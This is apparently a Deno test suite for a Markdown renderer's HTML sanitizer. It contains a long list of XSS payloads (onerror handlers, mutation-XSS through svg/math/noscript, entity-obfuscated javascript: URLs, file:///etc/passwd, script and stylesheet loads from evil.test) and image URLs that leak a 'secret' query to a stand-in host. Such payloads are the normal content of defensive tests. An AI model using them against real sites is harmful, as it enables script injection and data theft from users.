import { assert, assertEquals, assertFalse } from "@std/assert";
import { renderBlock, renderMarkdown, renderOpenBlock } from "./mod.ts";
import { sanitize } from "./sanitize.ts";

const ALLOWED = new Set(
  ("a abbr b blockquote br button code del details div em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark " +
    "ol p pre q s samp small span strong sub summary sup table tbody td th thead tr u ul var wbr").split(" "),
);
const ALLOWED_ATTRIBUTES = new Set(
  ("align alt checked class data-copy data-language disabled href loading open rel src start tabindex target title type")
    .split(" "),
);
const CLASSES = /^(?:code-block|code-copy|table-scroll|language-[\w+#.-]+)$/;
const ENTITIES: Record<string, string> = {
  "&amp;": "&",
  "&lt;": "<",
  "&gt;": ">",
  "&quot;": '"',
  "&#39;": "'",
};

/**
 * Fails unless the HTML is of the narrow form that any browser reads alike: only allowed tags with quoted, allowed attributes,
 * no other "<" or ">", every tag closed in order, and addresses that do nothing.
 */
function assertHarmless(html: string, message: string): void {
  const open: string[] = [];
  const text = html.replace(
    /<(\/?)([a-z][a-z\d]*)((?: [a-z-]+(?:="[^"<>]*")?)*)( \/)?>/g,
    (_, slash, tag, attributes) => {
      assert(ALLOWED.has(tag), `${message}: tag ${tag}`);
      checkAttributes(tag, attributes, message);
      if (slash) assertEquals(open.pop(), tag, message);
      else if (!["br", "hr", "img", "input", "wbr"].includes(tag)) open.push(tag);
      return "";
    },
  );
  assertFalse(/[<>]/.test(text), `${message}: ${text}`);
  assertEquals(open, [], message);
}

function checkAttributes(tag: string, attributes: string, message: string): void {
  for (const [, name = "", value = ""] of attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
    assert(ALLOWED_ATTRIBUTES.has(name), `${message}: attribute ${name}`);
    if (name === "class") assert(CLASSES.test(value), `${message}: class ${value}`);
    if (name === "href" || name === "src") {
      const decoded = value.replace(
        /&[^;]*;/g,
        (entity) => ENTITIES[entity] ?? assert(false, `${message}: ${entity}`) ?? "",
      );
      const { protocol, host } = new URL(decoded, "http://page.test/");
      if (name === "href") {
        assert(["http:", "https:", "mailto:"].includes(protocol), `${message}: ${decoded}`);
      } else {assert(
          host === "page.test" || /^data:image\/(png|jpeg|gif|webp);base64,/.test(decoded),
          message,
        );}
    }
  }
  if (tag === "a" && attributes.includes("href")) {
    assert(attributes.includes('rel="noopener noreferrer nofollow" target="_blank"'), message);
  }
}

const SCRIPT_ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\tjavascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3A;alert(1)",
  "javascript&#0000058alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
  "&#38;#106;avascript:alert(1)",
  "&amp;#106;avascript:alert(1)",
  "&amp;#x6a;avascript&amp;colon;alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script&colon;alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://page.test/1",
  "file:///etc/passwd",
  "view-source:javascript:alert(1)",
  "feed:javascript:alert(1)",
  "x-javascript:alert(1)",
];

const HTML = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<img/src/onerror=alert(1)>",
  '<img src="x" title="a>b" onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<title><img src=x onerror=alert(1)></title>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<base href='https://evil.test/'><link rel=stylesheet href=//evil.test/x.css><meta http-equiv=refresh content='0;url=//x'>",
  "<style>@import '//evil.test/x.css'; body{background:url(//evil.test)}</style>",
  "<div style='background:url(//evil.test)' class='composer' id=x>x</div>",
  "<kbd onclick=alert(1) style=position:fixed class=x id=y>k</kbd>",
  "<details open ontoggle=alert(1)><summary onclick=alert(1)>s</summary>x</details>",
  "<details/open/ontoggle=alert(1)>",
  "<b <img src=x onerror=alert(1)>>",
  "<b\u000conclick=alert(1)>x</b>",
  "<b onclick\n=\n'alert(1)'>x</b>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=javascript&colon;alert(1)>x</a>",
  "<button class=code-copy formaction=javascript:alert(1)>x</button>",
  "<input type=image src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<kbd><img src=x onerror=alert(1)></kbd>",
  "<kbd><a/href=javascript:alert(1)>x",
  "</p></div></main><script>alert(1)</script>",
  "<b><i><s>never closed",
  "</b></i></li></ul></div>",
  "<<b>script>alert(1)<</b>/script>",
  "<__proto__ x=1><constructor>",
  "<kbd __proto__=x constructor=y>k</kbd>",
  "\u0000<scr\u0000ipt>alert(1)</script>",
];

function contexts(html: string): string[] {
  return [
    html,
    `text ${html} text`,
    `- item ${html}`,
    `> ${html}`,
    `| a |\n|---|\n| ${html} |`,
    `# ${html}`,
    `**${html}**`,
    `[${html}](https://x.test "${html}")`,
    `![${html}](https://x.test '${html}')`,
    `![${html}](/x.png "${html}")`,
    `<details>\n<summary>${html}</summary>\n\n${html}\n\n</details>`,
    `\`${html}\``,
    `\`\`\`${html}\n${html}\n\`\`\``,
    `    ${html}`,
    `[x]: https://x.test "${html}"\n[x]`,
    `<https://x.test/${html}>`,
  ];
}

Deno.test("HTML that does harm is harmless in every place", () => {
  for (const html of HTML) {
    for (const text of contexts(html)) {
      assertHarmless(renderBlock(text), text);
      assertHarmless(renderMarkdown(text), text);
      for (let end = 1; end < text.length; end += 3) {
        const source = text.slice(0, end);
        assertHarmless(renderOpenBlock({ type: "markdown", index: 0, source }), source);
      }
    }
  }
});

Deno.test("addresses that do harm are dropped in every place", () => {
  for (const address of SCRIPT_ADDRESSES) {
    for (
      const text of [
        `[x](${address})`,
        `[x](<${address}>)`,
        `![x](${address})`,
        `![x](<${address}>)`,
        `<${address}>`,
        address,
        `[x][1]\n\n[1]: ${address}`,
        `[x][1]\n\n[1]: <${address}> "t"`,
        `[![x](${address})](${address})`,
        `[x](https://x.test/?"onclick="alert(1) "${address}")`,
      ]
    ) assertHarmless(renderBlock(text), text);
  }
});

Deno.test("the last pass holds by itself", () => {
  for (const html of HTML) assertHarmless(sanitize(html), html);
  for (const address of SCRIPT_ADDRESSES) {
    for (const quote of ['"', "'", ""]) {
      assertHarmless(
        sanitize(`<a href=${quote}${address}${quote}>x</a><img src=${quote}${address}${quote}>`),
        address,
      );
    }
  }
  assertHarmless(sanitize('<div class="composer"><pre tabindex="5"><code class="x y">'), "classes");
  assertEquals(
    sanitize('<a href="&#38;#106;avascript:alert(1)">x</a>'),
    '<a href="&amp;#106;avascript:alert(1)" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  );
});

Deno.test("images of foreign hosts become links", () => {
  const link = (href: string, text: string) =>
    `<p><a href="${href}" rel="noopener noreferrer nofollow" target="_blank">${text}</a></p>\n`;
  assertEquals(
    renderBlock("![the alt](https://evil.test/?q=secret)"),
    link("https://evil.test/?q=secret", "the alt"),
  );
  assertEquals(renderBlock("![](//evil.test/x.png)"), link("//evil.test/x.png", "//evil.test/x.png"));
  for (
    const src of [
      "//evil.test/x",
      "\\\\evil.test/x",
      "/\\evil.test/x",
      "/\t/evil.test/x",
      "https:evil.test/x",
      "ftp://x/y",
    ]
  ) {
    assertHarmless(renderBlock(`![a](<${src}>)`), src);
    assertFalse(sanitize(`<img src="${src}" alt="a">`).includes("src="), src);
  }
  assertFalse(renderBlock("[![a](https://evil.test/x.png)](https://x.test)").includes("<img"));
});

Deno.test("images of our own and data images are shown", () => {
  for (const src of ["/api/attachments/1", "x.png", "./x.png", "data:image/png;base64,iVBORw0KGgo="]) {
    assertEquals(renderBlock(`![a](${src})`), `<p><img src="${src}" loading="lazy" alt="a"></p>\n`);
  }
  assertFalse(renderBlock("![a](data:image/svg+xml;base64,PHN2Zz4=)").includes("<img"));
});

Deno.test("a few tags may be written as HTML", () => {
  assertEquals(
    renderBlock("Press <kbd>Ctrl</kbd><br>H<sub>2</sub>O"),
    "<p>Press <kbd>Ctrl</kbd><br>H<sub>2</sub>O</p>\n",
  );
  assertEquals(
    renderBlock("<details open>\n<summary>S</summary>\n\n**x**\n\n</details>").replace(/\n/g, ""),
    "<details open><summary>S</summary><p><strong>x</strong></p></details>",
  );
  assertEquals(renderBlock('<p align="center">x</p>').trim(), '&lt;p align="center"&gt;x&lt;/p&gt;');
});

Deno.test("what is left open ends with the block", () => {
  assertEquals(renderBlock("<b>bold <i>both"), "<p><b>bold <i>both</i></b></p>\n");
  assertEquals(renderBlock("a </b> </details>"), "<p>a  </p>\n");
});
